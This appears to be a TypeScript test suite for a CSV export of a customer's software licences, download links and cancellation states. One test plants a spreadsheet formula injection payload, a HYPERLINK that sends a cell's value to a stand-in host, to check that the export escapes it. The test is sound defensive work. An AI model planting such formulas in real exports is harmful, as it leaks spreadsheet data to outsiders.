import { DAY_MS } from '../../src/platform/base/clock';
import { sql } from '../../src/platform/database/sql';
import { completeCancellation, requestCancellation } from '../access/world';
import { statementsOf } from '../support/statements';
import { type ExportDesk, openExportDesk } from './export-desk';

describe('the software of a customer as a table', () => {
  let desk: ExportDesk;

  beforeEach(async () => {
    desk = await openExportDesk();
  });
  afterEach(() => desk.close());

  const ofSoftware = async (id: string) => (await desk.lines()).filter(({ softwareId }) => softwareId === id);

  it('is found by the id of the customer, even with white space around it', async () => {
    const { id } = desk.world.customer;
    const { body } = await desk.get();
    for (const pasted of [`%20${id}`, `${id}%0A`, `%E2%80%8E${id}%C2%A0`]) {
      expect((await desk.get(pasted)).body).toBe(body);
    }
    expect((await desk.get(id.toUpperCase())).statusCode).toBe(404);
  });

  it('has a line for each link, and one for software without', async () => {
    const { softwareId, otherSoftwareId, orderNumber, linkId, editionId, subscriptionId } = desk.world;
    expect(await desk.lines()).toHaveLength(2);
    expect(await ofSoftware(softwareId)).toEqual([
      {
        softwareId,
        product: expect.any(String),
        sku: expect.any(String),
        skuId: desk.world.skuId,
        quantity: '1',
        status: 'ACTIVE',
        purchasedAt: '2026-01-15T09:30:00.000Z',
        expiresAt: '2027-01-15T09:30:00.000Z',
        subscriptionId,
        orderNumber,
        purchaseOrderNumber: 'PO-1',
        orderedBy: 'Test ADMIN_AGENT',
        editionId,
        editionVersion: '2022',
        editionLanguage: expect.any(String),
        editionFile: expect.any(String),
        linkId,
        linkRound: '1',
        linkStatus: 'ACTIVE',
        linkIssuedAt: '2026-01-15T09:30:00.000Z',
        linkExpiresAt: '2026-01-29T09:30:00.000Z',
        downloadsUsed: '0',
        downloadsRemaining: '50',
      },
    ]);
    expect(await ofSoftware(otherSoftwareId)).toMatchObject([
      { orderNumber, expiresAt: '', linkId: '', linkStatus: '', downloadsUsed: '' },
    ]);
  });

  it('has every round of a link with its current status', async () => {
    const { softwareId, customer, orderId } = desk.world;
    const admin = desk.as('ADMIN_AGENT');
    desk.clock.advance(14 * DAY_MS);
    await admin.query(`mutation { reissueExpiredLinks(input: { customer: { id: "${customer.id}" } }) { remaining } }`);
    const states = async () =>
      (await ofSoftware(softwareId)).map(({ status, linkRound, linkStatus }) => [status, linkRound, linkStatus]);
    expect(await states()).toEqual([
      ['ACTIVE', '1', 'EXPIRED'],
      ['ACTIVE', '2', 'ACTIVE'],
    ]);
    const { id } = await requestCancellation(admin, customer.id, orderId, { softwareIds: [softwareId] });
    await completeCancellation(desk, id);
    expect(await states()).toEqual([
      ['CANCELLED', '1', 'EXPIRED'],
      ['CANCELLED', '2', 'REVOKED'],
    ]);
  });

  it('contains no key and no link URL', async () => {
    const { node } = await desk
      .as('ADMIN_AGENT')
      .query(
        `{ node(id: "${desk.world.softwareId}") { ... on Software { keys { value masked } downloadLinks { url } } } }`,
      );
    const { body } = await desk.get();
    expect(body).toContain(desk.world.linkId);
    for (const secret of [node.keys[0].value, node.keys[0].masked, node.downloadLinks[0].url.split('/').at(-1)])
      expect(body).not.toContain(secret);
    expect(body).not.toMatch(/https?:/);
  });

  it('is saved under the domain of the customer, and not cached', async () => {
    const { headers } = await desk.get();
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': `attachment; filename="software-${desk.world.customer.domain}-2026-01-15.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
  });

  it('runs no formula in a spreadsheet, regardless of purchase order numbers', async () => {
    const formula = `=HYPERLINK("http://x.example?"&A1,"Order, ""open""")`;
    await desk.gateway.database.transaction((tx) =>
      tx.query(sql`UPDATE "orders" SET "purchaseOrderNumber" = ${formula}`),
    );
    for (const line of await desk.lines()) expect(line.purchaseOrderNumber).toBe(`'${formula}`);
  });

  it('has all software once and in order, with three statements per page', async () => {
    await desk.sellMore(450);
    let lines: ExportDesk['lines'] extends () => Promise<infer Lines> ? Lines : never = [];
    const statements = await statementsOf(async () => {
      lines = await desk.lines();
    });
    expect(lines).toHaveLength(452);
    expect(new Set(lines.map(({ softwareId }) => softwareId)).size).toBe(452);
    const times = lines.map(({ purchasedAt }) => purchasedAt);
    expect(times).toEqual([...times].sort());
    // One for the customer, one for the amount of software, three for the audit trail; then the pages.
    expect(statements).toHaveLength(2 + 3 + 3 * 3);
  });

  it('has only the header if nothing was bought', async () => {
    const { id } = await desk.make.customer();
    const { body } = await desk.get(id);
    expect(body).toMatch(/^softwareId,product,[\w,]+\r\n$/);
  });
});
